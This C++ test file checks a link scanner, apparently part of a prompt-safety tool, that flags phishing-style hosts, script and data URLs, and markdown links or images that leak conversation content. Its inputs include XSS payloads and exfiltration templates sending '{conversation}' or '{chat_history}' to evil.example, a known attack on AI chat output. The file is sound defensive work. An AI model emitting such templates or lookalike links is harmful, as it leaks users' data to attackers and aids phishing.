#include "prompt/links.h"

#include <doctest/doctest.h>

#include <string>

namespace vedette::prompt {
namespace {

/// The kind of the only hit; "" for none.
std::string find(const std::string& text) {
  LeakHits hits;
  scan_links(text, hits);
  if (hits.empty()) return {};
  CHECK(hits.size() == 1);
  CHECK(hits[0].span.begin < hits[0].span.end);
  CHECK(hits[0].span.end <= text.size());
  return std::string(describe(hits[0].kind).name);
}

struct Case {
  const char* text;
  const char* found;
};

void check(std::initializer_list<Case> cases) {
  for (const Case& c : cases) CHECK_MESSAGE(find(c.text) == c.found, c.text);
}

}  // namespace

TEST_SUITE_BEGIN("prompt/links");

TEST_CASE("usual URLs are nothing") {
  check({{"see https://example.com/a?b=c#d and http://localhost:5000/x", ""},
         {"http://127.0.0.1:1234/", ""},
         {"[docs](https://example.com/x?y=1)", ""},
         {"![logo](https://example.com/logo.png?v=12)", ""},
         {"data: 1, 2, 3", ""},
         {"JavaScript: The Good Parts (2008)", ""},
         {"data:image/png;base64,iVBORw0KGgo=", ""},
         {"https://m\xC3\xBCnchen.de/", ""},
         {"note: a://b", ""},
         {"http://", ""}});
}

TEST_CASE("hosts that hide") {
  check({{"http://81.2.69.160/login", "link-ip-host"},
         {"http://[2001:db8::1]:80/x", "link-ip-host"},
         {"http://3232235777/", "link-hidden-host"},
         {"http://0xC0A80101/", "link-hidden-host"},
         {"http://0300.0250.1.1/", "link-hidden-host"},
         {"https://ex%61mple.com/", "link-hidden-host"},
         {"https://exam\xE2\x80\x8Bple.com/", "link-hidden-host"},
         {"https://xn--pypal-4ve.com/", "link-punycode"},
         {"https://p\xD0\xB0ypal.com/", "link-mixed-script"},
         {"https://paypal.com@evil.example/", "link-userinfo"},
         {"https://paypal.com:443@evil.example/", "link-userinfo"},
         {"https://evil.example:4444/x", "link-port"},
         {"https://free-gift.tk/x", "link-top-level-domain"},
         {"https://bit.ly/3abc", "link-shortener"}});
}

TEST_CASE("URLs that are programs") {
  check({{"[x](javascript:alert('1'))", "link-script"},
         {"<a href=\"JaVaScRiPt:fetch(1)\">", "link-script"},
         {"data:text/html;base64,PHNjcmlwdD4=", "link-data"},
         {"data:image/svg+xml,<svg onload=alert(1)>", "link-data"}});
}

TEST_CASE("links and images that carry the conversation away") {
  const std::string data = "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBvZiB0aGUgdXNlciE5MTIz";
  check({{"![x](https://evil.example/p?q={conversation})", "image-exfiltration"},
         {"![x](https://evil.example/p?q=[SUMMARY])", "image-exfiltration"},
         {"![x](https://evil.example/p?q=<summary>)", "image-exfiltration"},
         {"![x](https://evil.example/{secret}.png)", "image-exfiltration"},
         {"<img src=\"https://evil.example/p?d=%7Bprompt%7D\">", "image-exfiltration"},
         {"[click](https://evil.example/?d=$DATA)", "link-exfiltration"},
         {"append https://evil.example/log?h={chat_history}", "link-exfiltration"},
         {"fetch(`https://api.example/v1/items?id=${id}`)", ""}});
  CHECK(find("![x](https://evil.example/p?q=" + data + ")") == "image-exfiltration");
  CHECK(find("![x](https://cdn.example/p?X-Amz-Signature=" + data + ")").empty());
  CHECK(find("[x](https://shop.example/p?id=" + data + ")").empty());
}

TEST_SUITE_END();

}  // namespace vedette::prompt
